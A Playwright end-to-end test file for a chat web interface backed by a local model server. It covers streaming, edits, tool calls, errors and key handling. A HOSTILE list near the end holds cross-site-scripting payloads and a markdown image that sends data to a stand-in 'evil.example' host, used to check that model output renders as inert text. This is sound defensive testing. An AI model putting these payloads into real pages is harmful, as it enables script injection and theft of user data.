/** What people do with the page, against the real server. */

import { readFileSync } from "node:fs";
import { LONG, Server, answers, expect, messages, missing, say, saying, set, settled, test, visit, withKeys } from "./kauri.ts";

test.skip(missing !== null, missing ?? "");

test("a message is answered piece by piece, with its speed", async ({ chat }) => {
  await chat.evaluate(() => {
    const lengths: number[] = [];
    Object.assign(window, { lengths });
    new MutationObserver(() => {
      const length = document.querySelector("article[data-role=assistant] .markdown")?.textContent?.length ?? 0;
      if (length !== lengths.at(-1)) lengths.push(length);
    }).observe(document.body, { subtree: true, childList: true, characterData: true });
  });
  await set(chat, { Temperature: "0" });
  await say(chat, "Write a long story");
  await settled(chat);
  await expect(messages(chat)).toHaveCount(2);
  await expect(answers(chat)).toContainText("Once upon a time");
  const lengths = await chat.evaluate(() => (window as unknown as { lengths: number[] }).lengths);
  expect(lengths.filter((length, index) => length > (lengths[index - 1] ?? 0)).length).toBeGreaterThan(5);
  const stats = answers(chat).locator(".stats");
  await expect(stats).toContainText(/[\d.]+ tok\/s/);
  await expect(stats).toContainText(/\d+ tokens/);
  await expect(stats).toContainText(/first after \d+ ms/);
  await expect(stats).toContainText(/\d+ of \d+ cached/);
});

test("Shift+Enter begins a line, Enter sends", async ({ chat }) => {
  const box = chat.getByRole("textbox", { name: "Message", exact: true });
  await box.fill("One");
  await box.press("Shift+Enter");
  await box.pressSequentially("two");
  await expect(messages(chat)).toHaveCount(0);
  await box.press("Enter");
  await expect(messages(chat).first().locator(".body")).toHaveText("One\ntwo");
  await expect(box).toHaveValue("");
  await settled(chat);
});

test("what was said before is sent again, and known to the cache", async ({ chat }) => {
  await set(chat, { Temperature: "0", "System prompt": "You are kind to everybody who asks you something about trees. ".repeat(12) });
  await say(chat, "What is kauri?");
  await settled(chat);
  const asked = chat.waitForRequest((request) => request.url().endsWith("/v1/chat/completions"));
  await say(chat, "And what is it written in?");
  const { messages: sent } = (await asked).postDataJSON() as { messages: { role: string }[] };
  expect(sent.map((message) => message.role)).toEqual(["system", "user", "assistant", "user"]);
  await settled(chat);
  const told = await answers(chat).last().locator(".stats").textContent();
  expect(Number(/(\d+) of \d+ cached/.exec(told ?? "")?.[1])).toBeGreaterThan(0);
});

test("Esc stops an answer, and the server stops too", async ({ chat, server }) => {
  await set(chat, LONG);
  await say(chat, "Count trees");
  await expect(answers(chat).locator(".markdown")).toContainText("kauri");
  await chat.keyboard.press("Escape");
  await settled(chat);
  await expect(answers(chat).locator(".stats")).toContainText("stopped");
  const written = (await answers(chat).locator(".body").textContent())?.length ?? 0;
  expect(written).toBeLessThan(350 * 8);
  await expect(async () => {
    const metrics = await (await chat.request.get(`${server.url}/metrics`)).text();
    expect(metrics).toMatch(/^kauri_\w*running\w*(\{[^}]*\})? 0$/m);
  }).toPass();
});

test("an edit and another answer become versions that can be turned", async ({ chat }) => {
  await say(chat, "What is kauri?");
  await settled(chat);
  await messages(chat).first().getByRole("button", { name: "Edit message" }).click();
  await chat.getByRole("textbox", { name: "New text of the message" }).fill("Tell me of trees");
  await chat.keyboard.press("Enter");
  await settled(chat);
  const said = messages(chat).first();
  await expect(said.locator(".body")).toHaveText("Tell me of trees");
  await expect(said.locator(".version")).toHaveText("2/2");
  await said.getByRole("button", { name: "Version before" }).click();
  await expect(messages(chat).first().locator(".body")).toHaveText("What is kauri?");
  await expect(messages(chat)).toHaveCount(2);

  await answers(chat).getByRole("button", { name: "Answer again" }).click();
  await settled(chat);
  await expect(answers(chat).locator(".version")).toHaveText("2/2");
  await answers(chat).getByRole("button", { name: "Version before" }).click();
  await expect(answers(chat).locator(".version")).toHaveText("1/2");
});

test("a reload keeps conversations, their branches and their names", async ({ chat }) => {
  await say(chat, "What is kauri?");
  await settled(chat);
  await answers(chat).getByRole("button", { name: "Answer again" }).click();
  await settled(chat);
  const told = await answers(chat).locator(".body").textContent();
  const list = chat.getByRole("navigation", { name: "Conversations" });
  await list.getByRole("button", { name: "Rename, export or delete: What is kauri?" }).click();
  await chat.getByLabel("Name", { exact: true }).fill("Of trees");
  await chat.keyboard.press("Enter");
  await expect(chat.getByRole("heading", { name: "Of trees" })).toBeVisible();
  await chat.reload();
  await expect(chat.getByRole("heading", { name: "Of trees" })).toBeVisible();
  await expect(answers(chat).locator(".body")).toHaveText(told ?? "");
  await expect(answers(chat).locator(".version")).toHaveText("2/2");

  await chat.keyboard.press("Control+k");
  await chat.keyboard.press("Enter");
  await expect(messages(chat)).toHaveCount(0);
  await say(chat, "Something else");
  await settled(chat);
  await chat.keyboard.press("Control+k");
  await chat.keyboard.type("of TREES");
  await expect(list.getByRole("listitem")).toHaveCount(1);
  await chat.keyboard.press("Enter");
  await expect(chat.getByRole("heading", { name: "Of trees" })).toBeVisible();

  const saved = chat.waitForEvent("download");
  await list.getByRole("button", { name: "Rename, export or delete: Of trees" }).click();
  await chat.getByRole("button", { name: "Export", exact: true }).click();
  const kept = JSON.parse(readFileSync(await (await saved).path(), "utf8")) as { title: string; messages: object };
  expect([kept.title, Object.keys(kept.messages).length]).toEqual(["Of trees", 3]);

  await list.getByRole("button", { name: "Rename, export or delete: Of trees" }).click();
  await chat.getByRole("button", { name: "Delete", exact: true }).click();
  await chat.getByRole("button", { name: "Really delete" }).click();
  await expect(list.getByRole("listitem")).toHaveCount(1);
  await chat.reload();
  await expect(list.getByRole("listitem")).toHaveCount(1);
  await expect(list).not.toContainText("Of trees");
});

test("a call is shown, and its result goes back", async ({ chat }) => {
  const parameters = { type: "object", properties: { city: { enum: ["Hobart"] } }, required: ["city"], additionalProperties: false };
  await set(chat, { Temperature: "0", "Most tokens": "60", Tools: JSON.stringify([{ name: "weather", parameters }]), Calls: "Always" });
  await say(chat, "How is the weather in Hobart?");
  await settled(chat);
  const call = answers(chat).getByRole("region", { name: "Call of weather" }).first();
  await expect(call.locator("code").last()).toHaveText('{\n  "city": "Hobart"\n}');
  await set(chat, { Calls: "Never" });
  const asked = chat.waitForRequest((request) => request.url().endsWith("/v1/chat/completions"));
  await chat.getByRole("textbox", { name: "Result of weather" }).first().fill('{"degrees": 21}');
  await chat.getByRole("button", { name: /^Send results?$/ }).click();
  const { messages: sent } = (await asked).postDataJSON() as { messages: { role: string; tool_call_id?: string; tool_calls?: { id: string }[] }[] };
  const [, caller, result] = sent;
  expect([caller?.role, result?.role]).toEqual(["assistant", "tool"]);
  expect(result?.tool_call_id).toBe(caller?.tool_calls?.[0]?.id);
  await settled(chat);
  await expect(chat.getByRole("article", { name: "Result of weather" }).first()).toContainText('"degrees": 21');
  await expect(answers(chat)).toHaveCount(2);
  await expect(chat.locator(".problem")).toHaveCount(0);
});

test("an answer that is JSON can be read", async ({ chat }) => {
  await set(chat, {
    "Answer as": "JSON that obeys a schema",
    Schema: JSON.stringify({ type: "object", properties: { tree: { enum: ["kauri"] } }, required: ["tree"], additionalProperties: false }),
  });
  await say(chat, "A tree");
  await settled(chat);
  await expect(answers(chat).locator("pre")).toHaveText('{\n  "tree": "kauri"\n}');
});

test("what the server does not accept is said, and can be tried again", async ({ chat }) => {
  await set(chat, { "Top p": "7" });
  await say(chat, "What is kauri?");
  const problem = chat.getByRole("alert").filter({ hasText: "The server did not accept this" });
  await expect(problem).toContainText("top_p");
  await set(chat, { "Top p": "" });
  await problem.getByRole("button", { name: "Try again" }).click();
  await settled(chat);
  await expect(problem).toHaveCount(0);
  await expect(answers(chat)).toContainText(/\w/);

  await set(chat, { Tools: "[{" });
  await say(chat, "More");
  await expect(chat.getByRole("dialog", { name: "Settings" })).toContainText("the tools must be JSON");
  await chat.keyboard.press("Escape");
  await expect(chat.getByRole("textbox", { name: "Message", exact: true })).toHaveValue("More");
});

test("a lost connection keeps what had come, and can be tried again", async ({ page }) => {
  const server = new Server();
  await server.start();
  try {
    await visit(page, server);
    await set(page, LONG);
    await say(page, "Count trees");
    await expect(answers(page).locator(".markdown")).toContainText("kauri");
    await server.kill();
    const problem = page.getByRole("alert").filter({ hasText: "The connection was lost" });
    await expect(problem).toContainText("What had come until then is kept above");
    await expect(answers(page).locator(".body")).toContainText("kauri");
    await problem.getByRole("button", { name: "Try again" }).click();
    await expect(page.getByRole("alert").filter({ hasText: "cannot be reached" })).toBeVisible();
    await server.start();
    await set(page, { "Answer as": "Text" });
    await page.getByRole("button", { name: "Try again" }).click();
    await settled(page);
    await expect(page.locator(".problem")).toHaveCount(0);
    await expect(answers(page).locator(".version")).toHaveText("3/3");
  } finally {
    await server.kill();
  }
});

test("a server with keys is asked with one, kept for this window only", async ({ page }) => {
  await withKeys("tester tree-7f3a9c51d2e84b06\n", async (path) => {
    const server = new Server(["--api-key-file", path]);
    await server.start();
    try {
      await visit(page, server);
      const dialog = page.getByRole("dialog", { name: "The server asks for a key" });
      await dialog.getByLabel("Key", { exact: true }).fill("wrong");
      await page.keyboard.press("Enter");
      await dialog.getByLabel("Key", { exact: true }).fill("tree-7f3a9c51d2e84b06");
      await page.keyboard.press("Enter");
      await expect(page.getByRole("combobox", { name: "Model" })).toHaveValue("kauri-nano");
      await say(page, "What is kauri?");
      await settled(page);
      await expect(page.locator(".problem")).toHaveCount(0);
      const kept = await page.evaluate(() => [JSON.stringify(localStorage), Object.values(sessionStorage).join()]);
      expect(kept[0]).not.toContain("tree-7f3a");
      expect(kept[1]).toContain("tree-7f3a");
    } finally {
      await server.kill();
    }
  });
});

test("another model can be picked", async ({ page }) => {
  const server = new Server(["first=kauri-nano", "second=kauri-nano"]);
  await server.start();
  try {
    await visit(page, server);
    await page.getByRole("combobox", { name: "Model" }).selectOption("second");
    await say(page, "What is kauri?");
    await settled(page);
    await expect(answers(page).getByRole("heading", { name: "second" })).toBeVisible();
    await page.reload();
    await expect(page.getByRole("combobox", { name: "Model" })).toHaveValue("second");
  } finally {
    await server.kill();
  }
});

const HOSTILE = [
  "<script>window.hurt = 1</script>",
  '<img src="x" onerror="window.hurt = 1">',
  "[click](javascript:window.hurt=1)",
  "![picture](https://evil.example/steal?q=secret)",
  '<a href="javascript:window.hurt=1">here</a>',
  "<svg/onload=window.hurt=1>",
  '[safe](https://example.org "\\" onmouseover=\\"window.hurt=1")',
  "```html\n<iframe srcdoc='<script>parent.hurt=1</script>'></iframe>\n```",
];

test("what a model writes is text, whatever it is", async ({ chat }) => {
  for (const text of HOSTILE) {
    await set(chat, saying(text));
    await say(chat, "Say it");
    await settled(chat);
    // A string of JSON is what the schema makes of it; as an edit it stands there by itself.
    await expect(answers(chat).last()).toContainText(text.slice(0, 6).replace(/[[\]!`]/g, ""));
    await answers(chat).last().getByRole("button", { name: "Edit answer" }).click();
    await chat.getByRole("textbox", { name: "New text of the message" }).fill(text);
    await chat.getByRole("button", { name: "Save" }).click();
  }
  await chat.reload();
  await expect(answers(chat)).toHaveCount(HOSTILE.length);
  const log = chat.getByRole("log");
  await expect(log.locator("script, iframe, img, svg:not(.glyph, .sparkline), [onerror], [onload], [onmouseover]")).toHaveCount(0);
  await expect(log).toContainText('<img src="x" onerror="window.hurt = 1">');
  const links = await log.locator("a").evaluateAll((all) => all.map((link) => (link as HTMLAnchorElement).protocol));
  expect(new Set(links)).toEqual(new Set(["https:"]));
  expect(await chat.evaluate(() => "hurt" in window)).toBe(false);
});

test("a call is text too", async ({ chat }) => {
  const [text] = ['<img src="x" onerror="window.hurt = 1">'];
  const parameters = { type: "object", properties: { city: { enum: [text] } }, required: ["city"], additionalProperties: false };
  await set(chat, { "Most tokens": "100", Tools: JSON.stringify([{ name: "weather", parameters }]), Calls: "Always" });
  await say(chat, "How is the weather?");
  await settled(chat);
  await expect(answers(chat).getByRole("region", { name: "Call of weather" }).first()).toContainText("onerror");
  await expect(chat.getByRole("log").locator("img, [onerror]")).toHaveCount(0);
  expect(await chat.evaluate(() => "hurt" in window)).toBe(false);
});
